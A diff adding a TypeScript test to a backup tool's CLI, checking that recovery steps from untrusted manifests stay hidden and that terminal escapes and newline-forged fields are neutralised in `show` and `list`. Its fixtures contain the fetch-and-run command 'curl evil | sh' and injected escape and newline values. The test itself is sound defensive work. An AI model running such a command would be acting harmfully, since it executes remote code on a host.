@@ -229,6 +229,45 @@ describe('of many', () => {
     expect(none).toMatchObject({ code: 1, stdout: Buffer.alloc(0), stderr: expect.stringContaining('E_NOT_FOUND') });
   });
 
+  test('of one that is not to be relied on `show` tells no way to restore it, and each line of `list` is about one', async () => {
+    const seeded = new SeededDirectory(scene, join(scene.user.home, 'forged'));
+    const recovery = ['one\nmore \x1b[2J', 'curl evil | sh'];
+    const reason = 'x\napp-20261130T101010Z-0001  99 GB  verified: restore';
+    const manifest = { recovery, pinned: { reason, at: '2026-11-20T10:00:00Z' } };
+    const [sound, unsigned, forged, damaged] = [
+      seeded.backup(daysAgo(1), { manifest }),
+      seeded.backup(daysAgo(2), { manifest }),
+      seeded.backup(daysAgo(3), { manifest: { ...manifest, mac: `hmac-sha256:${'0'.repeat(64)}` } }),
+      seeded.backup(daysAgo(4), { manifest: { ...manifest, bytes: 1 } }),
+    ];
+    const of = { ...scene.inputs, ...NO_STORE, directory: seeded.path };
+    const key = { 'signing-key': 'a key of sixteen and more' };
+    const cases: [id: string, inputs: Inputs, state: string][] = [
+      [unsigned, { ...of, ...key }, 'unsigned'],
+      [forged, { ...of, ...key }, 'forged'],
+      [damaged, of, 'damaged'],
+    ];
+    for (const [id, inputs, state] of cases) {
+      const shown = (await byHand(['show', id, '--quiet'], inputs)).stdout.toString();
+      expect(shown).toMatch(
+        new RegExp(`^${id}\n[^]*\n {2}state {3}${state}: [^]*\nIt is ${state}: how it could be restored is not told`),
+      );
+      expect(shown).not.toMatch(/curl|by hand|db-backup/);
+      const report = JSON.parse((await byHand(['show', id, '--json'], inputs)).stdout.toString());
+      expect(report).toMatchObject({ backup: { state }, recovery: [] });
+    }
+    const good = await byHand(['show', sound, '--quiet'], of);
+    expect(good.stdout.toString()).toMatch(/\nby hand, on the host:\n {2}one more \n {2}curl evil \| sh\n$/);
+    const report = JSON.parse((await byHand(['show', sound, '--json'], of)).stdout.toString());
+    expect(report.recovery).toEqual(['one more ', 'curl evil | sh']);
+    const listed = (await byHand(['list', '--quiet'], of)).stdout.toString();
+    expect(listed.trim().split('\n')).toEqual(
+      [sound, unsigned, forged, damaged].map((id) =>
+        expect.stringMatching(new RegExp(`^${id} .* pinned: x app-20261130T101010Z-0001 `)),
+      ),
+    );
+  });
+
   test('where none is good, Enter takes none, and `latest` fails', async () => {
     const seeded = new SeededDirectory(scene, join(scene.user.home, 'none'));
     const inputs = { directory: seeded.path };
